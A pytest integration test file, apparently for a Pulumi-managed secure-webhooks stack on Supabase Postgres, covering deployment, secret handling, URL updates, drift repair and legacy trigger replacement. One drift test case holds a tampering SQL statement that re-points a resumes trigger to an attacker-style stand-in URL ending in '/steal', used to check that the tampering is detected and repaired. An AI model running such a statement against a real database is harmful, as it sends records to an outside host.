"""The real Pulumi engine runs the program: preview, up, updates, drift, rollback, secrets."""

from __future__ import annotations

import json
import threading
from concurrent.futures import ThreadPoolExecutor

import pytest
from engine_support import JWT_SECRET

from local_supabase.bootstrap import install_legacy_webhooks
from local_supabase.orchestrator import WebhookReceiver

SECURE = "secure-webhooks:index:SecureWebhooks$pulumi-python:dynamic/secure-webhooks"
DELIVERY = {
    ("create", f"{SECURE}:Outbox::secure-webhooks-outbox"),
    ("create", f"{SECURE}:Reconciler::secure-webhooks-reconciler"),
    ("create", f"{SECURE}:ReconcilerSchedule::secure-webhooks-reconciler-schedule"),
}
TRIGGERS = {
    f"{SECURE}:WebhookTrigger::secure-webhooks-public.resumes-orchestrator-ingest-interns-individual",
    f"{SECURE}:WebhookTrigger::secure-webhooks-public.zip_archives-orchestrator-injest-resumes-batch",
}


def test_fresh_stack_previews_creates_then_converges(engine):
    stack = engine.stack("dev")
    assert set(stack.preview_steps()) == {
        ("create", "pulumi:pulumi:Stack::secure-webhooks-dev"),
        ("create", "secure-webhooks:index:SecureWebhooks::secure-webhooks"),
        ("create", f"{SECURE}:Installation::secure-webhooks-installation"),
        ("create", f"{SECURE}:SecureFunction::secure-webhooks-function"),
        *(("create", trigger) for trigger in TRIGGERS),
        *DELIVERY,
    }
    stack.up()
    stack.preview("--expect-no-changes")
    assert stack.outputs()["function"] == "public.notify_orchestrator_secure()"
    with engine.connect() as conn:
        conn.execute("INSERT INTO public.resumes (name, storage_path) VALUES ('a.pdf', 'r/')")
    (delivery,) = engine.orchestrator.wait_for(1)
    assert delivery.status == 200 and delivery.claims["exp"] - delivery.claims["iat"] == 3600
    assert delivery.claims["jti"] == delivery.header("webhook-id")
    assert stack.outputs()["delivery"] == {
        "mode": "at-least-once",
        "schema": "secure_webhooks",
        "view": "secure_webhooks.deliveries",
        "cronJob": "secure_webhooks_reconciler",
        "schedule": "* * * * *",  # Debian's pg_cron 1.4 schedules by the minute
        "alerts": {"channel": "secure_webhooks_alerts", "url": None, "intervalSeconds": 300},
    }


def test_secrets_never_appear_in_state_or_output(engine):
    stack = engine.stack("dev")
    stack.set_secret("secure-webhooks:jwtSecret", JWT_SECRET + "-managed")
    printed = [stack.preview().stdout, stack.up().stdout, stack.refresh().stdout]
    state = json.dumps(stack.export())
    printed.append(stack.run("stack", "output", "--json").stdout)
    for secret in (engine.cluster.password_for("postgres"), JWT_SECRET + "-managed"):
        assert secret not in state
        assert all(secret not in text for text in printed)
    (vault_secret,) = [r for r in stack.export()["deployment"]["resources"] if r["type"].endswith(":VaultSecret")]
    for props in (vault_secret["inputs"], vault_secret["outputs"]):
        assert set(props["secret"]) == {"4dabf18193072939515e22adb298388d", "ciphertext"}


def steps_that_change(stack) -> set[tuple[str, str]]:
    return {(op, resource) for op, resource in stack.preview_steps() if op != "same"}


def insert_until(engine, stop: threading.Event) -> int:
    """Insert one row per transaction, at most 50 a second, until `stop` is set; return how many committed.

    The pace is a client's, not a wait: without it a fast machine queues thousands during one `up`, and the
    test then spends minutes draining them through the default endpoint limits."""
    count = 0
    with engine.connect() as conn:
        while not stop.wait(0.02):
            conn.execute("INSERT INTO public.resumes (name, storage_path) VALUES (%s, 'r/')", (f"row{count}",))
            count += 1
    return count


def test_url_change_updates_triggers_in_place_without_losing_an_insert(engine):
    stack = engine.stack("dev")
    stack.up()
    with WebhookReceiver(JWT_SECRET) as moved:
        stack.set_config({"secure-webhooks:orchestratorUrl": moved.url})
        # The reconciler too: it sends each webhook's events to the URL configured for it (its routes).
        reconciler = f"{SECURE}:Reconciler::secure-webhooks-reconciler"
        assert steps_that_change(stack) == {("update", name) for name in (*TRIGGERS, reconciler)}

        stop = threading.Event()
        with ThreadPoolExecutor(max_workers=1) as pool:
            inserted = pool.submit(insert_until, engine, stop)
            stack.up()
            stop.set()
            count = inserted.result()
        with engine.connect() as conn:
            conn.execute("INSERT INTO public.resumes (name, storage_path) VALUES ('after-update', 'r/')")
        # Wait for the outbox, not pg_net's queue: on a busy machine the queue can be empty while the reconciler
        # still signs the next requests. A delivered event's request was recorded by its receiver before it answered.
        engine.wait_until_delivered()
        delivered = engine.orchestrator.deliveries + moved.deliveries
        assert count > 0 and len(delivered) == count + 1
        assert all(d.status == 200 for d in delivered)
        assert {d.body["record"]["name"] for d in delivered} == {f"row{i}" for i in range(count)} | {"after-update"}
        assert "after-update" in {d.body["record"]["name"] for d in moved.deliveries}
    stack.preview("--expect-no-changes")


TRIGGER = '"orchestrator-ingest-interns-individual" ON public.resumes'
DRIFT = {
    "trigger dropped": (f"DROP TRIGGER {TRIGGER}", "orchestrator-ingest-interns-individual"),
    "trigger disabled": (
        'ALTER TABLE public.resumes DISABLE TRIGGER "orchestrator-ingest-interns-individual"',
        "orchestrator-ingest-interns-individual",
    ),
    "trigger re-pointed": (
        'CREATE OR REPLACE TRIGGER "orchestrator-ingest-interns-individual" AFTER INSERT ON public.resumes '
        "REFERENCING NEW TABLE AS new_rows FOR EACH STATEMENT "
        "EXECUTE FUNCTION public.notify_orchestrator_secure('https://attacker.example.com/steal')",
        "orchestrator-ingest-interns-individual",
    ),
    "function edited": (
        "ALTER FUNCTION public.notify_orchestrator_secure() SECURITY INVOKER",
        "secure-webhooks-function",
    ),
}


@pytest.mark.parametrize("drift", DRIFT)
def test_drift_fails_preview_and_up_refresh_repairs_it(engine, drift):
    tamper, resource = DRIFT[drift]
    stack = engine.stack("dev")
    stack.up()
    with engine.connect() as conn:
        conn.execute(tamper)
    detected = stack.preview("--refresh", "--expect-no-changes", check=False)
    assert detected.returncode != 0
    assert resource in detected.stdout + detected.stderr
    stack.up("--refresh")
    stack.preview("--refresh", "--expect-no-changes")
    with engine.connect() as conn:
        conn.execute("INSERT INTO public.resumes (name, storage_path) VALUES ('after-repair.pdf', 'r/')")
    (delivery,) = engine.orchestrator.wait_for(1)
    assert delivery.status == 200 and delivery.path == "/ingest/interns/individual"


LEGACY = """
SELECT tgname, pg_get_triggerdef(oid), tgenabled, obj_description(oid, 'pg_trigger') FROM pg_trigger
 WHERE tgrelid IN ('public.resumes'::regclass, 'public.zip_archives'::regclass) AND NOT tgisinternal ORDER BY 1"""


def test_legacy_webhooks_are_replaced_and_destroy_restores_them(engine):
    with engine.connect() as conn:
        install_legacy_webhooks(conn, engine.orchestrator.url)
        legacy = conn.execute(LEGACY).fetchall()
        extensions = conn.execute("SELECT extname FROM pg_extension ORDER BY 1").fetchall()
    stack = engine.stack("dev")
    stack.up()
    with engine.connect() as conn:
        ours = conn.execute(LEGACY).fetchall()
        conn.execute("INSERT INTO public.zip_archives (name, storage_path) VALUES ('batch.zip', 'z/')")
    assert [row[0] for row in ours] == [row[0] for row in legacy]
    assert all("notify_orchestrator_secure" in row[1] for row in ours)
    (delivery,) = engine.orchestrator.wait_for(1)
    assert delivery.status == 200 and delivery.path == "/ingest/resumes/batch"

    engine.wait_until_delivered()
    stack.destroy()
    with engine.connect() as conn:
        assert conn.execute(LEGACY).fetchall() == legacy
        assert conn.execute("SELECT extname FROM pg_extension ORDER BY 1").fetchall() == extensions
        assert conn.execute("SELECT to_regprocedure('public.notify_orchestrator_secure()')").fetchone()[0] is None


def test_missing_vault_secret_fails_preview_until_the_stack_manages_it(engine):
    with engine.connect() as conn:
        conn.execute("DELETE FROM vault.secrets WHERE name = 'app_jwt_secret'")
    stack = engine.stack("dev")
    failed = stack.preview(check=False)
    assert failed.returncode != 0
    assert "Vault secret 'app_jwt_secret' (secure-webhooks:secretName) does not exist" in failed.stdout + failed.stderr
    stack.set_secret("secure-webhooks:jwtSecret", JWT_SECRET)
    stack.up()
    with engine.connect() as conn:
        conn.execute("INSERT INTO public.resumes (name, storage_path) VALUES ('a.pdf', 'r/')")
    (delivery,) = engine.orchestrator.wait_for(1)
    assert delivery.status == 200
    engine.wait_until_delivered()
    stack.destroy()
    with engine.connect() as conn:
        assert conn.execute("SELECT count(*) FROM vault.secrets WHERE name = 'app_jwt_secret'").fetchone() == (0,)
